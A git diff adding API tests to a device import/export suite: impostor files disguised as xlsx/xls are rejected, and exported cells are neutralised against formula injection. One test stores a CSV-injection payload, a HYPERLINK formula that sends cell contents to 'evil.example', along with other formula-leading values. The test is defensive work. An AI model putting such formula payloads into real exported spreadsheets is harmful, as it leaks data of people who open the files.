@@ -1,6 +1,7 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { DEVICE_SHEET_COLUMNS, ErrorCode, IMPORT_FORMAT_MESSAGE } from '@iot/contract';
-import { readSheet, writeSheet } from '../src/lib/sheet.js';
+import * as XLSX from '@e965/xlsx';
+import { neutralizeCell, readSheet, writeSheet } from '../src/lib/sheet.js';
 import { bearer, buildTestApp, multipart, type TestApp } from './helpers.js';
 
 const EN = DEVICE_SHEET_COLUMNS.map((c) => c.en);
@@ -48,6 +49,33 @@ describe('bulk device import and export', () => {
     expect(bad.json().data.field).toBe('file');
   });
 
+  it('detects the real format by its first bytes: anything but an xlsx or xls workbook is "not a spreadsheet"', async () => {
+    const send = async (filename: string, data: Buffer) => {
+      const body = multipart(filename, data);
+      return (await t.app.inject({ method: 'POST', url: '/api/v1/device/import?dryRun=true', headers: { ...bearer(token), ...body.headers }, payload: body.payload })).json();
+    };
+    const header = EN.slice(0, 3).join(',');
+    const impostors: [string, Buffer][] = [
+      ['notes.xlsx', Buffer.from('name,sn,type\nPack,SN-1,BMU\n')],
+      ['empty.xlsx', Buffer.alloc(0)],
+      ['junk.xlsx', Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 37) % 256))],
+      ['table.xls', Buffer.from(`<table><tr><td>${EN[0]}</td><td>${EN[1]}</td><td>${EN[2]}</td></tr><tr><td>P</td><td>HTML-1</td><td>BMU</td></tr></table>`)],
+      ['renamed.xls', Buffer.from(`${header}\nPack,CSV-1,BMU\n`)],
+      ['zip.xlsx', Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), Buffer.from('word/document.xml and nothing else')])],
+      ['doc.xls', Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(2048, 0x41)])],
+    ];
+    for (const [name, data] of impostors) {
+      expect(await send(name, data), name).toMatchObject({ code: ErrorCode.VALIDATION, data: { field: 'file', reason: 'notSpreadsheet' } });
+    }
+    // Real workbooks in both formats are read, whichever extension of the two they carry.
+    const rows = [EN.slice(0, 3), ['Pack', 'REAL-1', 'BMU']];
+    const wb = XLSX.utils.book_new();
+    XLSX.utils.book_append_sheet(wb, XLSX.utils.aoa_to_sheet(rows), 'devices');
+    const biff8 = XLSX.write(wb, { type: 'buffer', bookType: 'biff8' }) as Buffer;
+    expect(await send('old.xls', biff8)).toMatchObject({ code: 20000, data: { valid: 1 } });
+    expect(await send('new.xls', writeSheet('devices', rows))).toMatchObject({ code: 20000, data: { valid: 1 } });
+  });
+
   it('reports every bad row with row, column and reason; all-or-nothing writes nothing', async () => {
     const rows = [
       EN,
@@ -91,5 +119,40 @@ describe('bulk device import and export', () => {
     expect(sheet.slice(1).map((r) => r[1])).toEqual(['IMP-ZH-1']);
     const all = readSheet((await t.app.inject({ method: 'GET', url: '/api/v1/device/export', headers: bearer(token) })).rawPayload);
     expect(all).toHaveLength(3);
+  });
+
+  it('neutralises cells that a spreadsheet would run as formulas (OWASP), and re-imports them as written', async () => {
+    const types = (await t.app.inject({ method: 'GET', url: '/api/v1/devicetype/typeoptionslist', headers: bearer(token) })).json().data;
+    const hostile = {
+      name: '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+      sn: 'FORMULA-1',
+      typeId: types[0].id,
+      alarmPhone: '+86 138 0000',
+      remarks: '@SUM(1+1)',
+      description: '-2+3',
+    };
+    const add = await t.app.inject({ method: 'POST', url: '/api/v1/device/add', headers: bearer(token), payload: hostile });
+    expect(add.json().code).toBe(20000);
+    const res = await t.app.inject({ method: 'GET', url: '/api/v1/device/export?q=FORMULA-1&lang=en', headers: bearer(token) });
+    const [header, row] = readSheet(res.rawPayload) as string[][];
+    const cell = (key: string) => row![DEVICE_SHEET_COLUMNS.findIndex((c) => c.key === key)];
+    expect(header![0]).toBe('Device name');
+    expect(cell('name')).toBe(`'${hostile.name}`);
+    expect(cell('alarmPhone')).toBe(`'${hostile.alarmPhone}`);
+    expect(cell('remarks')).toBe(`'${hostile.remarks}`);
+    expect(cell('description')).toBe(`'${hostile.description}`);
+    expect(cell('sn')).toBe('FORMULA-1');
+
+    // Tab and CR starts (trimmed away by the API's text fields) and numbers.
+    expect([neutralizeCell('\tx'), neutralizeCell('\rx'), neutralizeCell(-3), neutralizeCell('a=b')]).toEqual(["'\tx", "'\rx", -3, 'a=b']);
+
+    // The exported file re-imports with the original texts (after deleting the device).
+    const id = add.json().data.id;
+    await t.app.inject({ method: 'DELETE', url: `/api/v1/device/delete?id=${id}`, headers: bearer(token) });
+    const again = multipart('export.xlsx', res.rawPayload);
+    const imported = await t.app.inject({ method: 'POST', url: '/api/v1/device/import', headers: { ...bearer(token), ...again.headers }, payload: again.payload });
+    expect(imported.json().data).toMatchObject({ imported: 1, errors: [] });
+    const back = (await list('&q=FORMULA-1')).items[0];
+    expect(back).toMatchObject({ name: hostile.name, alarmPhone: hostile.alarmPhone, remarks: hostile.remarks, description: hostile.description });
   });
 });
